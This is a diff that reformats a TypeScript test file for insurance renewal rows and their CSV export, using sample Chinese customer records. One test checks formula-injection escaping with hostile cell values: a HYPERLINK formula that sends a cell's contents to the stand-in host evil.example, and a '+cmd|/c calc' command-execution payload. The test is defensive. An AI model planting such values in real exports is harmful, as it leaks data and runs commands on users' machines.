@@ -11,10 +11,24 @@ import { policyOf } from './customer-view-records.js';
 const MOTOR = 'PDAA202644030000012345';
 
 const GOLDEN_ZHANG_WEI = sampleRenewalCandidate().goldenId as string;
-const ZHANG_WEI: RenewalContact = { goldenId: GOLDEN_ZHANG_WEI, fullName: '张伟', mobile: '13812345678', email: 'zhang.wei@example.com.cn', valueSegment: 'GOLD' };
+const ZHANG_WEI: RenewalContact = {
+  goldenId: GOLDEN_ZHANG_WEI,
+  fullName: '张伟',
+  mobile: '13812345678',
+  email: 'zhang.wei@example.com.cn',
+  valueSegment: 'GOLD',
+};
 
 function rows(): RenewalRow[] {
-  const policies = [policyOf(), policyOf({ policyNumber: 'PUNMATCHED', holder: { customerId: null, name: '李娜', idType: 'RESIDENT_ID', idNumber: 'x' }, agentCode: null, expiryDate: '2027-12-01' })];
+  const policies = [
+    policyOf(),
+    policyOf({
+      policyNumber: 'PUNMATCHED',
+      holder: { customerId: null, name: '李娜', idType: 'RESIDENT_ID', idNumber: 'x' },
+      agentCode: null,
+      expiryDate: '2027-12-01',
+    }),
+  ];
   return renewalRows(selectRenewals(policies, '2027-10-15', 60), (policy) => (policy.policyNumber === MOTOR ? ZHANG_WEI : undefined));
 }
 
@@ -62,8 +76,17 @@ describe('renewal rows', () => {
 
   it('take their contact from a golden customer record, and the policy name when it has none', () => {
     const golden = { ...sampleGoldenCustomer(), valueSegment: 'GOLD' } as unknown as RenewalContact;
-    const [matched] = renewalRows(selectRenewals([policyOf({ holder: { customerId: null, name: '张 伟', idType: 'RESIDENT_ID', idNumber: 'x' } })], '2027-10-15', 60), () => golden);
-    expect(matched).to.include({ goldenId: GOLDEN_ZHANG_WEI, holderName: '张伟', mobile: '13812345678', email: 'zhang.wei@example.com.cn', valueSegment: 'GOLD' });
+    const [matched] = renewalRows(
+      selectRenewals([policyOf({ holder: { customerId: null, name: '张 伟', idType: 'RESIDENT_ID', idNumber: 'x' } })], '2027-10-15', 60),
+      () => golden,
+    );
+    expect(matched).to.include({
+      goldenId: GOLDEN_ZHANG_WEI,
+      holderName: '张伟',
+      mobile: '13812345678',
+      email: 'zhang.wei@example.com.cn',
+      valueSegment: 'GOLD',
+    });
     const [nameless] = renewalRows(selectRenewals([policyOf()], '2027-10-15', 60), () => ({ ...golden, fullName: null }));
     expect(nameless?.holderName).to.equal('张伟');
     expect(nameless?.goldenId).to.equal(GOLDEN_ZHANG_WEI);
@@ -79,7 +102,10 @@ describe('renewal rows', () => {
     const unmatched = renewalCandidateRecord(rows()[1] as RenewalRow, sample.meta as Parameters<typeof renewalCandidateRecord>[1]);
     expect(type.isValid(unmatched)).to.equal(true);
     expect(unmatched).to.include({ goldenId: null, valueSegment: null, contactPhone: null, holderName: '李娜' });
-    const oddSegment = renewalCandidateRecord({ ...(rows()[0] as RenewalRow), valueSegment: 'VIP' }, sample.meta as Parameters<typeof renewalCandidateRecord>[1]);
+    const oddSegment = renewalCandidateRecord(
+      { ...(rows()[0] as RenewalRow), valueSegment: 'VIP' },
+      sample.meta as Parameters<typeof renewalCandidateRecord>[1],
+    );
     expect(oddSegment.valueSegment).to.equal(null);
     expect(type.isValid(oddSegment)).to.equal(true);
   });
@@ -114,7 +140,13 @@ describe('renewalCsv', () => {
   });
 
   it('defuses cells a spreadsheet would run as formulas', () => {
-    const hostile = row({ holderName: '=HYPERLINK("http://evil.example/?"&A1,"点我")', email: '@SUM(1+1)', productName: '-2+3', agentCode: '+cmd|/c calc', valueSegment: '\tTAB' });
+    const hostile = row({
+      holderName: '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+      email: '@SUM(1+1)',
+      productName: '-2+3',
+      agentCode: '+cmd|/c calc',
+      valueSegment: '\tTAB',
+    });
     const [, values] = parse(renewalCsv([hostile]), { relax_quotes: false }) as string[][];
     const cell = (column: (typeof RENEWAL_CSV_COLUMNS)[number]) => values?.[RENEWAL_CSV_COLUMNS.indexOf(column)];
     expect(cell('holderName')).to.equal(`'=HYPERLINK("http://evil.example/?"&A1,"点我")`);
